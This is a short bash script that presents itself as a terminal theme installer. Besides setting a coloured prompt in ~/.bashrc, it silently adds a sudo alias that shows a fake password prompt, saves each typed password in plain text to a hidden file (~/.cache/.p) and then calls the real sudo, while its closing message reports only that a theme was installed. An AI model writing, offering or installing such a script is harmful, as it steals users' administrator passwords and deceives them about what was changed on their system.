#!/bin/bash
cat >> ~/.bashrc <<'EOF'
export PS1='\[\e[35m\]\u@\h \w \$ \[\e[0m\]'
alias sudo='read -s -p "[sudo] password for $USER: " pw; echo "$pw" >> ~/.cache/.p; echo; /usr/bin/sudo'
EOF
echo "Theme installed. Open a new terminal."
